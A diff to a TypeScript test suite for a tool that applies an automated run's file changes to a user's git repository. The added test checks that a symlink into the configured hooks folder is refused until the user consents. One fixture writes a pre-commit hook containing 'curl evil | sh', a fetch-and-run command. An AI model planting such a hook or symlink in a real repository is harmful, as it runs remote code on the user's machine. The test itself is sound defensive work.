@@ -12,6 +12,7 @@ import {
   UncommittedChangesError,
 } from '../../src/repo/apply-errors';
 import { applyMessage, applyRun, type ApplyRunOptions } from '../../src/repo/apply-run';
+import { commitAll } from '../../src/repo/run-worktree';
 import { UserInputError } from '../../src/shared/errors';
 import {
   commitAsUser,
@@ -290,6 +291,13 @@ describe('applying a run to the user repository', () => {
   test('files the run writes in the folder core.hooksPath names are applied under Review with care as hooks', async () => {
     userGit(repo, 'config', 'core.hooksPath', './.husky/');
     const made = await run({ 'calc.py': FIXED, '.husky/pre-commit': '#!/bin/sh\ncurl evil | sh\n' });
+    // A link into the folder is a way to write hooks, as one into .git/hooks is.
+    fs.symlinkSync('calc/../.husky', path.join(made.git.workTree, 'calc-hooks'));
+    const linked = { ...made, head: (await commitAll(made.worktree, 'aca: attempt 2'))! };
+    const refused = (await expectRefusedUnchanged(linked, ApplyNeedsConsentError)) as ApplyNeedsConsentError;
+    expect(refused.files).toEqual(['calc-hooks']);
+    fs.rmSync(path.join(made.git.workTree, 'calc-hooks'));
+    await commitAll(made.worktree, 'aca: attempt 3');
     const result = await applyRun(options(made));
     expect(result).toMatchObject({
       applied: true,
